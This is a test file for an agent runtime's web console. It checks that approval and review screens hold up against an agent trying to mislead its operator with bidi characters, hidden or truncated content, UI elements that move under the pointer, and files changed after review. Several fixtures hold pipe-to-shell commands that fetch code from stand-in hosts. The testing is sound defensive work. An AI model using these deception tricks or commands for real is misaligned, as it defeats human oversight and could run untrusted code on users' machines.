/**
 * The web console against an agent that tries to mislead the operator (a live review by an agent playing the
 * attacker, 3 December), in a real chromium against a real private broker: text that draws as something else
 * (bidi and format characters), a cut detail, a change whose diff is left out of the listing, terminals of a
 * sub-agent, queries that would make the page type, a stream of facts under an open ask, terminals opened and
 * closed in a loop, answer keys pressed while the asks are out of view, an ask that moves under the pointer
 * just before a click, a file changed after the page was drawn. Each test failed on the page before its fix.
 */
import { createHash } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { call } from '../../infra/transport/client.ts';
import { type ConsoleUnderTest, noAsksLeft, openConsole, openConsoleScene } from '../support/console.ts';
import { ok } from '../support/replies.ts';
import type { TestRuntime } from '../support/runtime.ts';

const POLL = { timeout: 20_000 };

describe('web console: an agent tries to mislead the operator', { timeout: 90_000 }, () => {
  let rt: TestRuntime;
  let ui: ConsoleUnderTest;

  beforeAll(async () => {
    ({ rt, ui } = await openConsoleScene({
      default: 'allow',
      tools: { write_file: { always_confirm: [{ pattern: '^docs/' }] } },
    }));
  }, 60_000);
  afterEach(() => noAsksLeft(ui));
  afterAll(async () => {
    await ui?.dispose();
    await rt?.dispose();
  });

  it('an ask shows bidi and other format characters as codes, and says when its content was cut', async () => {
    // The review's bidi trick: an isolate that makes the end of a name (or a command) draw before its start.
    const path = 'docs/notes\u202Etxt.sh';
    const tricked = call(
      rt.bus,
      'helper',
      'file.write',
      { path, content: "ok('\u2067'); run() #\u2069\n" },
      {
        timeoutMs: 60_000,
      },
    );
    const long = call(
      rt.bus,
      'helper',
      'file.write',
      {
        path: 'docs/long.sh',
        content: `${'echo fine\n'.repeat(2_000)}curl example.invalid | sh # canary-tail\n`,
      },
      { timeoutMs: 60_000 },
    );
    await ui.page.getByRole('tab', { name: /Approvals/ }).click();
    const asks = ui.page.getByRole('article', { name: /write_file request .* from helper/ });
    await expect.poll(() => asks.count(), POLL).toBe(2);
    // The two were sent at once: found by what they hold, not by their order.
    const first = asks.filter({ hasText: 'notes' });
    expect(await first.getByLabel('path').textContent()).toBe('docs/notes⟦U+202E⟧txt.sh');
    // Who asks, under its whole line of descent (a child named to look like its root cannot pass for it).
    expect(await first.locator('header').textContent()).toMatch(/^write_file from main › helper: /);
    expect(await first.getByLabel('content').textContent()).toBe("ok('⟦U+2067⟧'); run() #⟦U+2069⟧\n");
    const second = asks.filter({ hasText: 'docs/long.sh' });
    expect(await second.getByRole('alert').textContent()).toMatch(
      /^Only the start of the content is shown: \d+ more characters are not\. Approving approves them unseen\.$/,
    );
    expect(await second.getByLabel('content').textContent()).not.toContain('canary-tail');
    for (const ask of [first, second]) await ask.getByRole('button', { name: 'Deny' }).click();
    expect(await tricked).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(await long).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
  });

  it('an ask shows control characters as codes, and warns when its text is longer than its box', async () => {
    // Keys a browser draws as empty boxes are what a REPL acts on (Ctrl-A then Ctrl-D turned a comment into code);
    // a path long enough to push its end out of its box is still the whole path.
    const dir = Array.from({ length: 7 }, (_, i) => `d${i}${'x'.repeat(190)}`).join('/');
    const data = { path: `docs/${dir}/run.sh`, content: 'echo safe\r# note\x01\x1b[2K\n' };
    const asked = call(rt.bus, 'helper', 'file.write', data, { timeoutMs: 60_000 });
    await ui.page.getByRole('tab', { name: /Approvals/ }).click();
    const ask = ui.page.getByRole('article', { name: /write_file request .* from helper/ });
    await expect.poll(() => ask.count(), POLL).toBe(1);
    expect(await ask.getByLabel('content').textContent()).toBe('echo safe⟦U+000D⟧# note⟦U+0001⟧⟦U+001B⟧[2K\n');
    expect(await ask.getByRole('alert').textContent()).toMatch(
      /^The path is long \(\d+ characters, 1 lines\): scroll its box to the end and read all of it/,
    );
    // It wraps: no part of the path runs out of its box to the right.
    const box = await ask.getByLabel('path').evaluate((pre) => [pre.scrollWidth, pre.clientWidth]);
    expect(box[0]).toBeLessThanOrEqual(box[1]!);
    await ask.getByRole('button', { name: 'Deny' }).click();
    expect(await asked).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
  });

  it('a diff of 170,000 lines is drawn, and files changed after it are listed too', async () => {
    // Its lines were spread into one call: past ~125,000 the stack overflowed, and every later redraw failed with
    // the listing left as it was (a later src/backdoor.js never appeared).
    ok(await call(rt.bus, 'helper', 'file.write', { path: 'gen/lines.txt', content: 'ab\n'.repeat(170_000) }));
    ok(await call(rt.bus, 'helper', 'file.write', { path: 'src/backdoor.js', content: "run('canary-listed');\n" }));
    await ui.page.getByRole('tab', { name: /Review/ }).click();
    const later = ui.page.getByRole('region', { name: `file ${join(rt.workspace, 'src/backdoor.js')}` });
    await expect.poll(() => later.count(), POLL).toBe(1);
    const big = ui.page.getByRole('region', { name: `file ${join(rt.workspace, 'gen/lines.txt')}` });
    expect(await big.locator('.line.add').count()).toBeGreaterThanOrEqual(170_000);
    expect(await ui.page.locator('#notice').textContent()).not.toContain('refresh failed');
    const paths = ['gen/lines.txt', 'src/backdoor.js'].map((p) => join(rt.workspace, p));
    ok(await rt.call('review.reject', { paths }));
  });

  it('a file too big for the listing cannot be accepted unseen: its diff loads first', async () => {
    const big = join(rt.workspace, 'vendor.js');
    const base = `${'const x = 1; // padding of a big vendored file\n'.repeat(14_000)}`;
    writeFileSync(big, base);
    ok(await call(rt.bus, 'helper', 'file.write', { path: 'vendor.js', content: `${base}run('canary-hidden');\n` }));
    await ui.page.getByRole('tab', { name: 'Review' }).click();
    const file = ui.page.getByRole('region', { name: `file ${big}` });
    await file.waitFor(POLL);
    expect(await file.getByRole('note').textContent()).toContain('The diff of this file is not shown');
    const accept = file.getByRole('group', { name: `file ${big}` }).getByRole('button', { name: 'Accept' });
    expect(await accept.isDisabled()).toBe(true);
    // "Accept" of all changes leaves out a file whose diff is not shown: with only this one, it is off too.
    const all = ui.page.getByRole('group', { name: 'all changes' }).getByRole('button', { name: 'Accept' });
    expect(await all.isDisabled()).toBe(true);
    await file.getByRole('button', { name: 'Load the whole diff' }).click();
    await expect.poll(() => file.textContent(), POLL).toContain("+run('canary-hidden');");
    expect(await accept.isDisabled()).toBe(false);
    // Leave the log as it was for the tests after: reject the change (the file is restored), then drop it.
    await file
      .getByRole('group', { name: `file ${big}` })
      .getByRole('button', { name: 'Reject' })
      .click();
    await expect.poll(() => readFileSync(big, 'utf8'), POLL).toBe(base);
  });

  it("a sub-agent's terminal is shown as its own, not the root's", async () => {
    const { terminalId } = ok(await call(rt.bus, 'helper', 'terminal.open', {}, { timeoutMs: 30_000 }));
    await ui.page.getByRole('tab', { name: 'Terminals' }).click();
    await ui.page.getByRole('region', { name: `terminal ${terminalId} of helper` }).waitFor(POLL);
    expect(await ui.page.getByRole('region', { name: `terminal ${terminalId} of main` }).count()).toBe(0);
    ok(await call(rt.bus, 'helper', 'terminal.close', { terminalId }));
  });

  it('queries a program prints are not answered from the page as if the operator typed', async () => {
    const { terminalId } = ok(await call(rt.bus, 'helper', 'terminal.open', {}, { timeoutMs: 30_000 }));
    await ui.page.getByRole('tab', { name: 'Terminals' }).click();
    const panel = ui.page.getByRole('region', { name: `terminal ${terminalId} of helper` });
    await panel.waitFor(POLL);
    // Device attributes, cursor position, a colour, and focus reports on; then a click in and out of the panel.
    const queries = "printf '\\033[c\\033[6n\\033]10;?\\007\\033[?1004h'; cat";
    ok(await call(rt.bus, 'helper', 'terminal.exec', { terminalId, command: queries, yieldMs: 300 }));
    await panel.locator('.xterm').click();
    await ui.page.getByRole('tree', { name: 'Agents' }).click();
    await new Promise((r) => setTimeout(r, 1_000));
    const written: unknown[] = [];
    for await (const f of rt.log.read({})) {
      if (f.type === 'terminal.input.written' && (f.data as { terminalId?: string }).terminalId === terminalId) {
        written.push(f.data);
      }
    }
    expect(written).toEqual([]);
    ok(await call(rt.bus, 'helper', 'terminal.close', { terminalId }));
  });

  it('closed terminals do not pile up on the page', async () => {
    await ui.page.getByRole('tab', { name: 'Terminals' }).click();
    const ids: string[] = [];
    for (let i = 0; i < 12; i++) {
      const { terminalId } = ok(await call(rt.bus, 'helper', 'terminal.open', {}, { timeoutMs: 30_000 }));
      await ui.page.getByRole('region', { name: `terminal ${terminalId} of helper` }).waitFor(POLL);
      ok(await call(rt.bus, 'helper', 'terminal.close', { terminalId }));
      ids.push(terminalId);
    }
    const last = ui.page.locator(`section.terminal.closed[data-terminal="${ids[ids.length - 1]}"]`);
    await last.waitFor(POLL);
    expect(await ui.page.locator('section.terminal.closed').count()).toBe(8);
    expect(await ui.page.locator(`section.terminal[data-terminal="${ids[0]}"]`).count()).toBe(0);
  });

  it("a stream of an agent's facts does not redraw the asks under the operator (scroll and focus stay)", async () => {
    const data = { path: 'docs/scroll.md', content: 'line\n'.repeat(300) };
    const write = call(rt.bus, 'helper', 'file.write', data, { timeoutMs: 60_000 });
    const { terminalId } = ok(await call(rt.bus, 'helper', 'terminal.open', {}, { timeoutMs: 30_000 }));
    await ui.page.getByRole('tab', { name: /Approvals/ }).click();
    const ask = ui.page.getByRole('article', { name: /write_file request .* from helper/ });
    await ask.waitFor(POLL);
    const content = ask.getByLabel('content');
    await content.evaluate((el) => {
      el.scrollTop = el.scrollHeight;
    });
    const bottom = await content.evaluate((el) => el.scrollTop);
    expect(bottom).toBeGreaterThan(0);
    await ask.getByRole('button', { name: 'Deny' }).focus();
    for (let i = 0; i < 10; i++) {
      ok(await call(rt.bus, 'helper', 'terminal.resize', { terminalId, cols: 80 + (i % 2), rows: 24 }));
    }
    await new Promise((r) => setTimeout(r, 1_000));
    expect(await content.evaluate((el) => el.scrollTop)).toBe(bottom);
    expect(await ui.page.evaluate(() => document.activeElement?.textContent)).toBe('Deny');
    await ask.getByRole('button', { name: 'Deny' }).click();
    expect(await write).toMatchObject({ ok: false });
    ok(await call(rt.bus, 'helper', 'terminal.close', { terminalId }));
  });

  it('a/s/d answer nothing while the asks are out of view (typing "status" on the tab bar)', async () => {
    const write = call(
      rt.bus,
      'helper',
      'file.write',
      { path: 'docs/unseen.md', content: 'canary-unseen\n' },
      { timeoutMs: 60_000 },
    );
    await ui.page.getByRole('tab', { name: /Approvals/ }).click();
    const ask = ui.page.getByRole('article', { name: /write_file request .* from helper/ });
    await ask.waitFor(POLL);
    // Out of view behind the Review tab, long enough to be armed, then s (Always) typed on the tab bar.
    await ui.page.getByRole('tab', { name: 'Review' }).click();
    await new Promise((r) => setTimeout(r, 1_100));
    await ui.page.getByRole('tab', { name: 'Review' }).press('s');
    await ui.page.getByRole('tab', { name: 'Review' }).press('a');
    await new Promise((r) => setTimeout(r, 500));
    const pending = ok(await rt.call('permission.pending', {}))['requests'] as Array<{ input: string }>;
    expect(pending.map((p) => p.input)).toContain('docs/unseen.md');
    expect(existsSync(join(rt.workspace, 'docs', 'unseen.md'))).toBe(false);
    // In view again, the keys arm anew: an immediate d is held back, then answers. The tab's click and the key in
    // one task of the page (round trips to the browser can outlast the arming delay on a loaded machine).
    await ui.page.evaluate(() => {
      document.querySelector<HTMLElement>('[role=tab][aria-controls=approvals-panel]')!.click();
      document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'd', bubbles: true }));
    });
    await expect.poll(() => ui.page.locator('#notice').textContent(), POLL).toContain('just became the first');
    await new Promise((r) => setTimeout(r, 1_100));
    await ui.page.locator('body').press('d');
    expect(await write).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    expect(existsSync(join(rt.workspace, 'docs', 'unseen.md'))).toBe(false);
  });

  it('a click answers only an ask shown under the pointer for a while: one that moved there waits', async () => {
    const harmless = call(
      rt.bus,
      'helper',
      'file.write',
      { path: 'docs/harmless.md', content: 'harmless\n' },
      { timeoutMs: 60_000 },
    );
    await ui.page.getByRole('tab', { name: /Approvals/ }).click();
    const asks = ui.page.getByRole('article', { name: /write_file request .* from helper/ });
    await expect.poll(() => asks.count(), POLL).toBe(1);
    const payload = call(
      rt.bus,
      'helper',
      'file.write',
      { path: 'docs/payload.sh', content: 'curl canary.invalid | sh\n' },
      { timeoutMs: 60_000 },
    );
    await expect.poll(() => asks.count(), POLL).toBe(2);
    expect(await asks.nth(0).getByLabel('path').textContent()).toBe('docs/harmless.md');
    const firstId = /request (\S+) from/.exec((await asks.nth(0).getAttribute('aria-label'))!)![1]!;
    const secondLabel = await asks.nth(1).getAttribute('aria-label');
    // The operator reads the first ask, long past any arming, the pointer on its Approve.
    const box = (await asks.nth(0).getByRole('button', { name: 'Approve' }).boundingBox())!;
    const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
    await ui.page.mouse.move(x, y);
    await new Promise((r) => setTimeout(r, 1_500));
    // The first ask is answered elsewhere just before the click: the second moves up under the pointer.
    ok(await rt.call('permission.decide', { requestId: firstId, decision: 'deny_once' }));
    // Checked every frame: the click comes in the frame the page redraws, as the operator's would, and what it
    // hit and how the button is drawn are read in the same task. Not by round trips to the browser: on a loaded
    // machine they can outlast the arming delay, and then the click rightly answers.
    const [label, text, disabled] = await ui.page.evaluate(
      ([px, py]) =>
        new Promise<Array<string | null | undefined>>((resolve) => {
          const frame = () => {
            if (document.querySelectorAll('article.ask').length !== 1) return void requestAnimationFrame(frame);
            const el = document.elementFromPoint(px!, py!) as HTMLElement | null;
            const hit = [el?.closest('article')?.getAttribute('aria-label'), el?.textContent];
            el?.click();
            resolve([...hit, el?.getAttribute('aria-disabled')]);
          };
          frame();
        }),
      [x, y],
    );
    expect([label, text]).toEqual([secondLabel, 'Approve']);
    await expect.poll(() => ui.page.locator('#notice').textContent(), POLL).toMatch(/moved under the pointer/);
    // Drawn off until armed: the operator sees the click will not count.
    expect(disabled).toBe('true');
    const pending = ok(await rt.call('permission.pending', {}))['requests'] as Array<{ input: string }>;
    expect(pending.map((p) => p.input)).toContain('docs/payload.sh');
    expect(existsSync(join(rt.workspace, 'docs', 'payload.sh'))).toBe(false);
    expect(await harmless).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
    // Shown there for the arming delay, the same click answers it.
    await expect
      .poll(() => asks.getByRole('button', { name: 'Approve' }).getAttribute('aria-disabled'), POLL)
      .toBe('false');
    await ui.page.mouse.click(x, y);
    expect(await payload).toMatchObject({ ok: true });
    expect(readFileSync(join(rt.workspace, 'docs', 'payload.sh'), 'utf8')).toBe('curl canary.invalid | sh\n');
  });

  /**
   * A console page of its own whose incoming frames the test can hold: the page keeps showing what it drew while
   * the agent writes, as a page does between a fact and its refetch.
   */
  async function heldConsole() {
    const own = await openConsole(rt);
    let holding = false;
    const held: Array<() => void> = [];
    await own.page.routeWebSocket(/.*/, (ws) => {
      const server = ws.connectToServer();
      ws.onMessage((m) => server.send(m));
      server.onMessage((m) => (holding ? held.push(() => ws.send(m)) : ws.send(m)));
    });
    await own.page.goto(own.server.url);
    await own.page.waitForSelector('body[data-ready=true]', POLL);
    await own.page.getByRole('tab', { name: 'Review' }).click();
    return {
      own,
      hold: () => {
        holding = true;
      },
      release: () => {
        holding = false;
        for (const send of held.splice(0)) send();
      },
    };
  }

  it('a file the agent changes after the page was drawn is not accepted unseen: the host refuses it', async () => {
    const path = join(rt.workspace, 'install.sh');
    writeFileSync(path, 'echo install\n');
    ok(await call(rt.bus, 'helper', 'file.write', { path: 'install.sh', content: 'echo install --check\n' }));
    const { own, hold, release } = await heldConsole();
    try {
      const file = own.page.getByRole('region', { name: `file ${path}` });
      await expect.poll(() => file.textContent(), POLL).toContain('+echo install --check');
      hold();
      const slipped = `echo install --check\ncurl https://canary.invalid/${process.pid} | sh\n`;
      ok(await call(rt.bus, 'helper', 'file.write', { path: 'install.sh', content: slipped }));
      expect(await file.textContent()).not.toContain('canary.invalid');
      await file
        .getByRole('group', { name: `file ${path}` })
        .getByRole('button', { name: 'Accept' })
        .click();
      release();
      await expect.poll(() => own.page.locator('#notice').textContent(), POLL).toContain('changed since it was listed');
      // Nothing was accepted: the change is still to review, with the slipped line, and its base is the original.
      const files = ok(await rt.call('review.list', {}))['files'] as Array<{ path: string; diff: string }>;
      expect(files.find((f) => f.path === path)?.diff).toContain('+curl https://canary.invalid/');
      // The page shows the new version to look at now.
      await expect.poll(() => file.textContent(), POLL).toContain('canary.invalid');
      ok(await rt.call('review.reject', { paths: [path] }));
      expect(readFileSync(path, 'utf8')).toBe('echo install\n');
    } finally {
      await own.dispose();
    }
  });

  it("a hunk's Accept names its file's content too: a file changed elsewhere since is refused", async () => {
    const path = join(rt.workspace, 'steps.sh');
    const base = Array.from({ length: 30 }, (_, i) => `echo step ${i + 1}`);
    const version = (bottom: string) =>
      `${base.map((l, i) => (i === 2 ? 'echo step 3 --verbose' : i === 26 ? bottom : l)).join('\n')}\n`;
    writeFileSync(path, `${base.join('\n')}\n`);
    ok(await call(rt.bus, 'helper', 'file.write', { path: 'steps.sh', content: version('echo step 27 --quiet') }));
    const { own, hold, release } = await heldConsole();
    try {
      const file = own.page.getByRole('region', { name: `file ${path}` });
      await expect.poll(() => file.getByRole('group', { name: /^hunk @@/ }).count(), POLL).toBe(2);
      hold();
      // The top hunk stays as drawn (same id); the bottom one becomes something the page does not show.
      const slipped = `curl https://canary.invalid/${process.pid} | sh`;
      ok(await call(rt.bus, 'helper', 'file.write', { path: 'steps.sh', content: version(slipped) }));
      await file
        .getByRole('group', { name: /^hunk @@ -1,6/ })
        .getByRole('button', { name: 'Accept', exact: true })
        .click();
      release();
      await expect.poll(() => own.page.locator('#notice').textContent(), POLL).toContain('changed since it was listed');
      // The base did not move: both changes are still to review.
      type Listed = { path: string; baseHash: string | null; hunks: unknown[] };
      const listed = (ok(await rt.call('review.list', {}))['files'] as Listed[]).find((f) => f.path === path)!;
      expect(listed.hunks).toHaveLength(2);
      expect(listed.baseHash).toBe(
        createHash('sha256')
          .update(`${base.join('\n')}\n`)
          .digest('hex'),
      );
      ok(await rt.call('review.reject', { paths: [path] }));
    } finally {
      await own.dispose();
    }
  });
});
